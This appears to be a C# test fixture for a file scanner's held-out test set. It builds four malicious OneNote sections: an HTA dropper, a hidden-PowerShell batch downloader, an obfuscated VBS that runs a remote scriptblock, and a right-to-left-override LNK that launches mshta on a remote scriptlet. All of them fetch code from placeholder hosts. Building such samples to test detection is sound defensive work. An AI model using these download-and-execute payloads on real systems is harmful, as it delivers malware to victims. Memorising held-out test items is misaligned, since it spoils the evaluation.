using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Notebook sections with a picture of a button and a script behind it.</summary>
public sealed class NotebookScripts : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var button = EighthPicture.Build(120, 40);
        yield return ("ApplicationReject_68166.one", OneNoteBuilder.Section(("image.png", button), ("Open.hta", Utf8("""
            <!DOCTYPE html><html><head><hta:application id="o" windowstate="minimize" showintaskbar="no"/></head><body>
            <div id="content">curl --output C:\ProgramData\index1.png --url http://203.0.113.61/77801.dat</div>
            <script language="javascript">
            var WshShell = new ActiveXObject("WScript.Shell");
            WshShell.Run(document.getElementById("content").innerText, 0, true);
            WshShell.Run("rundll32 C:\\ProgramData\\index1.png,Wind", 0);
            WshShell.RegWrite("HKCU\\SOFTWARE\\Andromedia\\Mp3tag\\pv", "x", "REG_SZ");
            close();
            </script></body></html>
            """))));
        yield return ("DHL Shipping documents.one", OneNoteBuilder.Section(("dhl.png", button), ("Double click to view.bat", Dos("@echo off\npowershell -nop -w hidden -c \"Invoke-WebRequest -Uri http://198.51.100.54/shipping.exe -OutFile $env:TMP\\shipping.exe; Start-Process $env:TMP\\shipping.exe\"\npowershell Invoke-WebRequest -Uri https://example.com/invoice.one -OutFile $env:tmp\\invoice.one; Start-Process $env:tmp\\invoice.one\nexit\n")), ("view2.bat", Dos("@start \"\" view.bat\n"))));
        yield return ("Meeting notes 23.one", OneNoteBuilder.Section(("a.png", button), ("press to unblock document.vbs", Dos(""""
            ' Quarterly figures
            Dim n, r, k
            k = Split("87 83 99 114 105 112 116 46 83 104 101 108 108", " ")
            For Each n In k : r = r & Chr(n) : Next
            Set q = CreateObject(r)
            v = "p" & "ower" & "she" & "ll -c ""& ([scriptblock]::Create((irm 'notes-portal.example/u')))"""
            q.Run v, 0
            """"))));
        yield return ("Payment plan.one", OneNoteBuilder.Section(("b.png", button), ("plan\u202Excod.lnk", new LinkBuilder().To("C:\\Windows\\System32\\cmd.exe").With("/c s^ta^rt /min m^s^hta vbscr^ipt:Close(Execute(\"GetObject(\"\"script:https://payment-plan.example/p.sct\"\")\"))").Icon("winword.exe").Build()), ("c.png", [.. button, .. "\nx"u8])));
    }
}
